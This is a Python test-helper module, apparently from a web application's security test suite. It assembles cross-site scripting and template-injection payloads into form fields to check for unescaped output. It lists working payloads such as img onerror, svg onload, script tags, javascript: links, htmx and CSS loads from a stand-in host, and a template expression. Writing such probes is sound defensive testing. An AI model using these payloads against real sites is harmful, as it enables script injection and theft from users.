"""What an attacker would write into a field. Each carries `x7`: as an attribute of whatever element it opens, as the
name of the function it calls, as the host it asks."""

import json
from collections.abc import Sequence
from functools import cache
from pathlib import Path
from zlib import crc32

from casebackend.api.values import CONTROL

FILE = Path(__file__).with_name("payloads.json")
MARK = "x7"
# What each field of the short round holds: one of every trick that works by itself in an unescaped place.
SHORT = (
    "<img x7 src=x onerror=x7()>", "<script x7>x7()</script>", "\"'><svg x7 onload=x7()>", "x7={{7*191}}",
    "<div x7 hx-get=//x7.example/ hx-trigger=load>", "<style x7>*{background:url(//x7.example/c)}</style>",
    "</title></textarea><img x7 src=//x7.example/i>", "<a x7 href=javascript:x7()>", "<iframe x7 src=//x7.example/>",
    "<!--x7",
)  # fmt: skip


@cache
def _kinds() -> dict[str, tuple[str, ...]]:
    """Without control characters: no field takes them."""
    found: dict[str, list[str]] = json.loads(FILE.read_text(encoding="utf-8"))
    return {kind: tuple(each for each in listed if not CONTROL.search(each)) for kind, listed in found.items()}


@cache
def swallowing() -> frozenset[str]:
    """These swallow what follows them, so at most one stands in a field, and last."""
    return frozenset(_kinds()["dangling"]) | {SHORT[-1]}


def corpus() -> tuple[str, ...]:
    return tuple(each for listed in _kinds().values() for each in listed)


def doses(size: int) -> list[tuple[str, ...]]:
    """The whole corpus, so many at once in each field."""
    given = corpus()
    rounds = -(-len(given) // size)
    plain, last = ([each for each in given if (each in swallowing()) is so] for so in (False, True))
    return [(*plain[place::rounds], *last[place::rounds]) for place in range(rounds)]


class Words:
    """The dose as the content of fields, all of it where there is room, else what fits, in turns. The same `of` gets
    the same, so that a name stays one name wherever it stands."""

    def __init__(self, payloads: Sequence[str]) -> None:
        self.payloads = tuple(payloads)
        self._plain = [each for each in payloads if each not in swallowing()]
        self._last = [each for each in payloads if each in swallowing()] or [MARK]

    def fit(self, room: int = 4_000, *, of: str = "") -> str:
        turn = crc32(f"{of}/{room}".encode())
        whole = " ".join((*self._plain, self._last[turn % len(self._last)]))
        if len(whole) <= room:
            return whole
        fitting = [each for each in self.payloads if len(each) <= room] or [MARK[:room]]
        return fitting[turn % len(fitting)]
